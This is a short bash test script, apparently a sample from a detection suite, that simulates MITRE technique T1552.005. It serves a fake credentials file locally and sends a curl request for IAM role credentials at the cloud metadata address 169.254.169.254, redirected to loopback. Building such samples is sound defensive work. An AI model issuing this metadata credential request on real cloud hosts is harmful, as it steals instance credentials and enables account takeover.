#!/usr/bin/env bash
# attack: T1552.005 Ask the cloud metadata service for instance credentials (curl --connect-to sends it to loopback)
# set: unseen
. "$(dirname "$0")/lib/common.sh"
mkdir -p "$SW/latest/meta-data/iam/security-credentials"
echo '{"AccessKeyId":"ASIAEXAMPLE"}' >"$SW/latest/meta-data/iam/security-credentials/role"
p=$(serve "$SW")
curl -s --max-time 3 --connect-to "169.254.169.254:80:127.0.0.1:$p" \
	http://169.254.169.254/latest/meta-data/iam/security-credentials/role >/dev/null
